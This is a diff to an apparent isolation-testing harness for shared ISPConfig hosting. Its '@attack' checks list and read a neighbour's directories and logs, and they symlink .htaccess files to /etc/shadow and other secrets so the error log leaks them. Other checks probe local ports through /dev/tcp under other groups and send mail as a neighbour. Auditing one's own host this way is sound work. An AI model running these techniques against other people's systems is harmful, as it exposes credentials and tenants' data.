@@ -96,21 +96,25 @@ def files_by_shell(field: Field) -> str | None:
 @attack("directories", "list a neighbour's directories", DIRECTORIES)
 def directories(field: Field) -> str | None:
     root = field.bobby.root
-    client = root.rpartition("/")[0]
-    for path in (client, f"{root}/web", f"{root}/private", f"{root}/tmp"):
-        if field.run(f"ls -A {path} >/dev/null && echo listed").strip() == "listed":
-            return f"ls {path.removeprefix('/var/www/')}"
-    return None
+    places = (root.rpartition("/")[0], f"{root}/web", f"{root}/private", f"{root}/tmp")
+
+    def look() -> str | None:
+        listed = [path for path in places if "listed" in field.run(f"ls -A {path} && echo listed")]
+        return f"ls {listed[0].removeprefix('/var/www/')}" if listed else None
+
+    return field.patiently(look)
 
 
 @attack("logs", "read a neighbour's logs", DIRECTORIES)
 def logs(field: Field) -> str | None:
-    name = field.bobby.name
-    places = f"/var/log/ispconfig/httpd/{name}/* {field.bobby.root}/log/*"
-    for path in field.run(f"ls -d {places} 2>/dev/null").split():
-        if field.run(f"head -c 1 {path} >/dev/null && echo read").strip() == "read":
-            return path
-    return None
+    places = f"/var/log/ispconfig/httpd/{field.bobby.name}/* {field.bobby.root}/log/*"
+    read = f"for log in {places}; do head -c 1 $log >/dev/null 2>&1 && echo read $log; done"
+
+    def look() -> str | None:
+        found = [line for line in field.run(read).splitlines() if line.startswith("read ")]
+        return found[0].removeprefix("read ") if found else None
+
+    return field.patiently(look)
 
 
 # -- .htaccess ------------------------------------------------------------------------
@@ -204,17 +208,29 @@ def own_limits(field: Field) -> str | None:
 )
 def configuration(field: Field) -> str | None:
     """What is no directive would be quoted in annie's own error log."""
-    field.put(field.annie, {"x.txt": "in"}, "linked")
-    paths = [field.path(mode) for mode in field.secrets]
-    for path in (*paths, "/etc/shadow"):
-        field.run(f"ln -sfn {path} {field.annie.root}/web/linked/.htaccess")
-        field.get(field.annie, "/linked/x.txt")
-        said = field.run(f"tail -n 5 {field.annie.root}/log/error.log")
+    for path in (*map(field.path, field.secrets), "/etc/shadow"):
+        _linked(field, path)
+        said = _own_log(field)
         if proof := _found(field, said, "the error log quotes it"):
             return proof
         if "'root:" in said:
             return "the error log quotes the line of root in /etc/shadow"
     return None
+
+
+@attack(
+    "first words",
+    "learn the first word of a neighbour's page, by a .htaccess that is a link to it",
+    OVERRIDES,
+    open_with=(walls.NARROW, walls.MPM_ITK),
+)
+def first_words(field: Field) -> str | None:
+    _linked(field, f"{field.bobby.root}/web/page.xml")
+    return "the error log quotes it" if field.first_word in _own_log(field) else None
+
+
+def _own_log(field: Field) -> str:
+    return field.run(f"tail -n 5 {field.annie.root}/log/error.log")
 
 
 @attack("handlers", "have the web server run programs with its own rights, by .htaccess", OVERRIDES)
@@ -288,7 +304,17 @@ def questions(field: Field) -> str | None:
         answers = [_answer(field, name, condition.format(path)) for path in (there, not_there)]
         if answers[0] != answers[1]:
             return f"{name}: it answers otherwise for a file that is there"
-    return None
+    linked = [_linked(field, path) for path in (there, not_there)]
+    return (
+        "a link: it answers otherwise for a file that is there" if linked[0] != linked[1] else None
+    )
+
+
+def _linked(field: Field, path: str) -> int:
+    """How a directory is answered whose .htaccess is a link to this."""
+    field.put(field.annie, {"x.txt": "in"}, "linked")
+    field.run(f"ln -sfn {path} {field.annie.root}/web/linked/.htaccess")
+    return field.get(field.annie, "/linked/x.txt").status_code
 
 
 def _conditions(expression: str) -> dict[str, str]:
@@ -355,7 +381,7 @@ def _race(field: Field, mode: int) -> tuple[int, int]:
 
     def ask() -> list[bool]:
         answers = []
-        while time.monotonic() < end:
+        while time.monotonic() < end and not any(answers):
             try:
                 text = field.get(field.annie, "/race/n.txt").text
             except NotTried:  # mpm_itk cuts off who asks for what is not his
@@ -398,8 +424,18 @@ def local_ports(field: Field) -> str | None:
         f"{what} ({port})"
         for port, what in ports.items()
         if field.ask("connect", host="127.0.0.1", port=port).get("connected")
+        or _reached_by_group(field, port)
     ]
     return ", ".join(reached) or None
+
+
+def _reached_by_group(field: Field, port: int) -> str | None:
+    """By a group of annie's that is not her client's: a firewall may know customers by that."""
+    for group in field.run("id -Gn").split()[1:]:
+        connect = f"timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' && echo reached"
+        if "reached" in field.run(f'sg {group} -c "{connect}"'):
+            return group
+    return None
 
 
 @attack("port 25", "hand mail to a mail server without a login", FIREWALL)
@@ -409,7 +445,8 @@ def port_25(field: Field) -> str | None:
         said = field.ask("smtp", host=host, port=25, to=to, **{"from": "anybody@example.org"})
         if said.get("accepted"):
             return f"{host}: {said.get('text', '')[:60]}"
-    return None
+    group = _reached_by_group(field, 25)
+    return f"127.0.0.1, as the group {group}" if group else None
 
 
 @attack(
@@ -434,17 +471,36 @@ def sendmail(field: Field) -> str | None:
 
 @attack(
     "submission",
-    "send mail with a mailbox that may not, or as somebody else",
-    "Mail → Reject sender and login mismatch, in the panel's server settings: " + MAIL,
+    "send mail with a mailbox that may not yet",
+    "disablesmtp, which the shop sends: `flask retry --check`; does the mail server heed it?",
 )
 def submission(field: Field) -> str | None:
+    if field.may_send():
+        raise NotTried("MAIL_SEND_MIN_DAYS lets a new hosting send")
+    return _send(field, lambda session: "the mailbox may log in to send")
+
+
+@attack(
+    "sender",
+    "send mail as a neighbour, with a mailbox of one's own",
+    "Mail → Reject sender and login mismatch, in the panel's server settings",
+)
+def sender(field: Field) -> str | None:
+    field.let_annie_send()
+
+    def as_neighbour(session: smtplib.SMTP) -> str | None:
+        session.mail(f"info@{field.bobby.name}")
+        code, _ = session.rcpt(f"info@{field.bobby.name}")
+        return "it is taken from the neighbour's address" if code < 400 else None
+
+    return _send(field, as_neighbour)
+
+
+def _send(field: Field, step: Callable[[smtplib.SMTP], str | None]) -> str | None:
+    """What comes of a step with the mail server, logged in; None when it lets nobody in."""
     try:
         with field.mail_login() as session:
-            if not field.may_send():
-                return "the mailbox may log in to send"
-            session.mail(f"info@{field.bobby.name}")
-            code, _ = session.rcpt(f"info@{field.bobby.name}")
-            return "it may send as the neighbour" if code < 400 else None
+            return step(session)
     except smtplib.SMTPAuthenticationError as error:
         if error.smtp_code < 500:
             raise NotTried(f"the mail server answered {error.smtp_code} to the login") from None
